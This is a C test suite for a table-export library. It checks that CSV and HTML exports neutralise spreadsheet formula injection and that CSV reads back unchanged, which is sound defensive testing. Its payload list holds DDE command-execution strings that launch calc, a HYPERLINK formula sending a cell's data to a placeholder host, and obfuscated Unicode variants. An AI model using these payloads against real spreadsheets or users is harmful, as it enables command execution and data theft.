/*
 * What a spreadsheet would calculate, in every text column of every table: neither CSV
 * nor HTML gives it a cell that begins so, and CSV that is read again gives back each
 * byte. Workbooks: report.write_xlsx.
 */
#include <criterion/criterion.h>
#include <criterion/new/assert.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <kho/exchange.h>

#include "exchange/csv_file.h"
#include "model/table.h"
#include "report/tables.h"

static const char *const payloads[] = {"=1+1", "+1+1", "-1+1", "@SUM(A1)", "-5",
    "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"x\")",
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", "\ta", "\ra", "\na", "＝1+1", "＋1+1", "－1+1",
    "＠SUM(A1)", "﹦1", "−1", " =1+1", "   +1", "\xC2\xA0=1", "\xE2\x80\x8B=1",
    "\xEF\xBB\xBF=1", "\"=1+1\"", "\"=1+1", "'=1+1", "''=1+1", "' =1", "\"'@a", "=",
    "=1+1;2", "=1,2", " \t=1"};

/* These are as harmless as they look. */
static const char *const plain[] = {
    "A12", "1=1", "a-b", "'", "\"", "O'Neil", "'a", "5-", "Trạm Y tế", " a", "(1 + 2)"};

enum {
    PAYLOADS = sizeof(payloads) / sizeof(*payloads),
    PLAIN = sizeof(plain) / sizeof(*plain)
};

static const char *text_at(size_t i)
{
    return i < PAYLOADS ? payloads[i] : plain[i - PAYLOADS];
}

/* Each text in a row of its own, in each text column. */
static kho_table *fill(kho__table_kind kind)
{
    kho_table *table = NULL;

    cr_assert(eq(int, kho__table_new(kind, PAYLOADS + PLAIN, &table), KHO_OK));
    for (size_t i = 0; i < PAYLOADS + PLAIN; i++) {
        cr_assert(eq(int, kho__table_row(table), KHO_OK));
        for (size_t column = 0; column < kho_table_columns(table); column++) {
            const kho_type type = kho_table_type(table, column);

            if (type == KHO_TEXT)
                cr_assert(eq(int,
                    kho__table_set_known(
                        table, column, text_at(i), text_at(i), text_at(i)),
                    KHO_OK));
            else if (type == KHO_INTEGER)
                kho__table_set_int(table, column, -7);
            else if (type == KHO_RATIONAL)
                kho__table_set_rational(table, column, (kho_rational){-7, 2});
        }
    }
    return table;
}

/* The first character says it all: nothing of what is dangerous is left there. */
static bool begins_badly(const char *text)
{
    static const char *const bad[] = {"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋",
        "－", "＠", "﹦", "−", " ", "\"", "\xC2\xA0", "\xE2\x80\x8B", "\xEF\xBB\xBF"};

    for (size_t i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
        if (strncmp(text, bad[i], strlen(bad[i])) == 0)
            return true;
    }
    return false;
}

typedef struct reading {
    const kho_table *table;
    size_t row, cells;
} reading;

static kho_status read_row(void *context, const kho__csv_row *row)
{
    reading *at = context;

    cr_assert(eq(sz, row->count, kho_table_columns(at->table)));
    for (size_t i = 0; i < row->count && at->row > 0; i++) {
        switch (kho_table_type(at->table, i)) {
        case KHO_TEXT:
            cr_expect(eq(str, (char *)row->cells[i], (char *)text_at(at->row - 1)));
            at->cells++;
            break;
        case KHO_INTEGER:
            cr_expect(eq(str, (char *)row->cells[i], "-7"));
            break;
        case KHO_RATIONAL:
            cr_expect(eq(chr, row->cells[i][0], '-'));
            break;
        case KHO_DATE:
            break;
        }
    }
    at->row++;
    return KHO_OK;
}

/* The numbers of fill(), however they are rounded. */
static bool is_number(const char *cell)
{
    return cell[0] == '-' && strchr("347", cell[1]) && strchr(".,\n", cell[2]);
}

/* Cells of text as they stand in the file; a quote around them is CSV's own. */
static void see_bytes(const char *csv)
{
    bool quoted = false, begins = true;
    size_t line = 0;

    for (const char *at = csv; *at; at++) {
        if (begins && line > 0 && *at != '\n') {
            const char *cell = at + (*at == '"');

            if (begins_badly(cell) && !is_number(cell) && strncmp(cell, " a", 2) != 0 &&
                *cell != '"')
                cr_fail("line %zu: %.20s", line, at);
        }
        quoted = *at == '"' ? !quoted : quoted;
        begins = !quoted && (*at == ',' || *at == '\n');
        line += !quoted && *at == '\n';
    }
}

Test(formulas, csv_has_none_and_is_read_as_it_was)
{
    static char path[] = "/tmp/kho-formulas-XXXXXX";
    const int file = mkstemp(path);
    size_t cells = 0;

    cr_assert(ge(int, file, 0));
    close(file);
    for (int kind = 0; kind < KHO__TABLE_KINDS; kind++) {
        kho_table *table = fill((kho__table_kind)kind);
        char *csv = tables_write(table, KHO_CSV, KHO_EN);
        reading at = {table, 0, 0};
        FILE *out = fopen(path, "w");

        see_bytes(csv);
        cr_assert(ge(int, fputs(csv, out), 0));
        cr_assert(eq(int, fclose(out), 0));
        cr_assert(eq(int, kho__csv_each(path, read_row, &at), KHO_OK));
        cr_expect(eq(sz, at.row, PAYLOADS + PLAIN + 1));
        cells += at.cells;
        free(csv);
        kho_table_free(table);
    }
    cr_expect(lt(sz, 3000, cells));
    remove(path);
}

static int write_file(void *context, const char *bytes, size_t size)
{
    return fwrite(bytes, 1, size, context) == size ? 0 : -1;
}

static kho_status read_taken(void *context, const kho__csv_row *row)
{
    size_t *line = context;
    const char *text = *line > 0 ? text_at(*line - 1) : NULL;

    cr_assert(eq(sz, row->count, 9));
    for (size_t i = 0; i < 8 && text; i++) {
        if (i == 1 || i == 4)
            continue;
        cr_expect(
            eq(str, (char *)row->cells[i], (char *)text_at(i == 0 ? 0 : *line - 1)));
    }
    (*line)++;
    return KHO_OK;
}

Test(formulas, answers_have_none)
{
    static char path[] = "/tmp/kho-formulas-XXXXXX";
    kho_taken taken[PAYLOADS + PLAIN];
    const kho_answer answer = {
        .uid = text_at(0), .seq = 7, .taken = taken, .taken_count = PAYLOADS + PLAIN};
    size_t lines = 0, size;
    char bytes[16384];
    FILE *file;

    for (size_t i = 0; i < PAYLOADS + PLAIN; i++)
        taken[i] = (kho_taken){0, text_at(i), text_at(i), text_at(i), KHO_NO_DATE,
            text_at(i), text_at(i), -7};
    close(mkstemp(path));
    file = fopen(path, "w+");
    cr_assert(eq(int, kho_answer_csv(&answer, write_file, file), KHO_OK));
    rewind(file);
    size = fread(bytes, 1, sizeof(bytes) - 1, file);
    bytes[size] = '\0';
    fclose(file);
    see_bytes(bytes);
    cr_assert(eq(int, kho__csv_each(path, read_taken, &lines), KHO_OK));
    cr_expect(eq(sz, lines, PAYLOADS + PLAIN + 1));
    remove(path);
}

/* What stands between two tags, without the entities that we write. */
static void take_node(const char *from, const char *to, char *out, size_t size)
{
    static const char *const names[] = {"&amp;", "&lt;", "&gt;", "&quot;", "&#39;"};
    size_t used = 0;

    while (from < to && used + 1 < size) {
        size_t entity = 0;

        while (entity < 5 && strncmp(from, names[entity], strlen(names[entity])) != 0)
            entity++;
        out[used++] = entity < 5 ? "&<>\"'"[entity] : *from;
        from += entity < 5 ? strlen(names[entity]) : 1;
    }
    out[used] = '\0';
}

/* Numbers are numbers, and a line's end between two tags is ours. */
static bool is_ours(const char *node)
{
    return strspn(node, "-0123456789,. \n") == strlen(node) || strcmp(node, " a") == 0 ||
           strcmp(node, "\"") == 0;
}

Test(formulas, html_has_none)
{
    char node[256];

    for (int kind = 0; kind < KHO__TABLE_KINDS; kind++) {
        kho_table *table = fill((kho__table_kind)kind);
        char *html = tables_write(table, KHO_HTML, KHO_VI);

        for (char *at = strstr(html, "<tbody>"); (at = strchr(at, '>')) != NULL; at++) {
            const char *end = strchr(at, '<');

            if (!end)
                break;
            take_node(at + 1, end, node, sizeof(node));
            if (begins_badly(node) && !is_ours(node))
                cr_fail("%s", node);
        }
        free(html);
        kho_table_free(table);
    }
}
